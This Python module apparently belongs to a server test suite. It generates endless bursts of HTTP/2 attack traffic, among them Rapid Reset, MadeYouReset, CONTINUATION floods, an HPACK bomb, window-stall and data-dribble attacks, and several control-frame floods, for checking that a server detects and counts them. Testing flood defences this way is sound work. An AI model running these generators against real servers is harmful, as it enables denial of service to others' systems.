"""What each HTTP/2 attack sends, as bursts of bytes without end."""

import itertools
import struct
from dataclasses import dataclass, field
from typing import Callable

from hyperframe.frame import (
    ContinuationFrame, DataFrame, PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)
from support.http2 import headers, raw_frame, request_block
from support.servers import LARGE_PATH, SMALL_PATH

PER_BURST = 100
CANCEL = 8
GET = request_block(SMALL_PATH)
GET_LARGE = request_block(LARGE_PATH)
POST = request_block("/", method="POST")


@dataclass
class Flood:
    """`bursts` is given the connection and yields bytes; `settings` are sent at the start. `reason` is the word under
    which the server has to count the end it makes of it, if it has to."""

    bursts: Callable
    settings: dict = field(default_factory=dict)
    is_cancelling: bool = False
    reason: str | None = None


def forever(make_burst):
    """Bursts that are made anew each time, from the connection."""
    def bursts(connection):
        while True:
            yield make_burst(connection)
    return bursts


def repeat(burst):
    return lambda connection: itertools.repeat(burst)


def rapid_reset(connection):
    frames = []
    for _ in range(PER_BURST):
        stream = connection.take_stream()
        frames += [headers(stream, GET), RstStreamFrame(stream, CANCEL).serialize()]
    return b"".join(frames)


def made_you_reset(connection):
    """Each request is followed by a frame for which the server itself has to reset the stream."""
    frames = []
    for number in range(PER_BURST):
        stream = connection.take_stream()
        offence = [
            raw_frame(WindowUpdateFrame.type, stream, struct.pack(">I", 0)),
            WindowUpdateFrame(stream, 0x7FFFFFFF).serialize(),
            raw_frame(PriorityFrame.type, stream, struct.pack(">IB", stream, 1)),
            DataFrame(stream, b"too much").serialize(),
        ][number % 4]
        frames += [headers(stream, GET), offence]
    return b"".join(frames)


def continuation_flood(connection):
    """A header block that never ends."""
    yield headers(connection.take_stream(), GET, ends_headers=False)
    field_line = b"\x00\x01a\x01b"
    while True:
        yield ContinuationFrame(1, field_line * 100).serialize() * PER_BURST


def empty_continuation_flood(connection):
    yield headers(connection.take_stream(), GET, ends_headers=False)
    while True:
        yield ContinuationFrame(1, b"").serialize() * PER_BURST * 10


def hpack_bomb(connection):
    """One large field enters the table, then one byte each stands for it thousands of times."""
    value = b"a" * 3000
    name = b"bomb"
    literal = b"\x40" + bytes([len(name)]) + name + b"\x7f" + varint(len(value) - 127) + value
    yield headers(connection.take_stream(), GET + literal)
    while True:
        yield headers(connection.take_stream(), GET + b"\xbe" * 16_000)


def varint(value):
    encoded = bytearray()
    while value >= 128:
        encoded.append(value % 128 + 128)
        value //= 128
    return bytes(encoded) + bytes([value])


def zero_window(connection):
    """Large answers are asked for and never let out."""
    streams = [connection.take_stream() for _ in range(PER_BURST)]
    yield b"".join(headers(stream, GET_LARGE) for stream in streams)
    while True:
        yield PingFrame(0, b"12345678").serialize()


def trickling_window(connection):
    """Large answers are let out byte by byte, as fast as can be (data dribble)."""
    streams = [connection.take_stream() for _ in range(PER_BURST)]
    yield b"".join(headers(stream, GET_LARGE) for stream in streams)
    while True:
        yield b"".join(WindowUpdateFrame(stream, 1).serialize() for stream in streams) * 10


def closed_stream_data(connection):
    """Bodies, a byte at a time, for a request that was answered."""
    stream = connection.take_stream()
    yield headers(stream, GET)
    while connection.answer_count == 0:
        yield b""
    while True:
        yield DataFrame(stream, b"a").serialize() * PER_BURST * 10


def empty_data(connection):
    stream = connection.take_stream()
    yield headers(stream, POST, ends_stream=False)
    while True:
        yield DataFrame(stream, b"").serialize() * PER_BURST * 10


def priority(connection):
    frames = []
    for number in range(PER_BURST * 10):
        depends_on = struct.pack(">IB", (number * 7919) % 9999 | 1, number % 256)
        frames.append(raw_frame(PriorityFrame.type, (number % 5000) * 2 + 1, depends_on))
    return b"".join(frames)


def empty_fields(connection):
    """Fields with neither name nor value."""
    return b"".join(headers(connection.take_stream(), GET + b"\x00\x00\x00" * 4000) for _ in range(10))


FLOODS = {
    "rapid-reset": Flood(forever(rapid_reset), is_cancelling=True),
    "made-you-reset": Flood(forever(made_you_reset), is_cancelling=True),
    "continuation-flood": Flood(continuation_flood),
    "empty-continuation-flood": Flood(empty_continuation_flood),
    "settings-flood": Flood(repeat(SettingsFrame(0, settings={1: 4096, 4: 65535}).serialize() * PER_BURST * 10)),
    "ping-flood": Flood(repeat(PingFrame(0, b"12345678").serialize() * PER_BURST * 10)),
    "window-update-flood": Flood(repeat(WindowUpdateFrame(0, 1).serialize() * PER_BURST * 10)),
    "zero-window": Flood(zero_window, settings={4: 0}),
    "trickling-window": Flood(trickling_window, settings={4: 0}, reason="h2-control-frame-flood"),
    "hpack-bomb": Flood(hpack_bomb),
    "empty-fields": Flood(forever(empty_fields)),
    "priority": Flood(forever(priority)),
    "empty-data": Flood(empty_data, reason="h2-control-frame-flood"),
    "closed-stream-data": Flood(closed_stream_data, reason="h2-control-frame-flood"),
    "unknown-frames": Flood(repeat(raw_frame(0xFA, 0, b"") * PER_BURST * 10)),
}
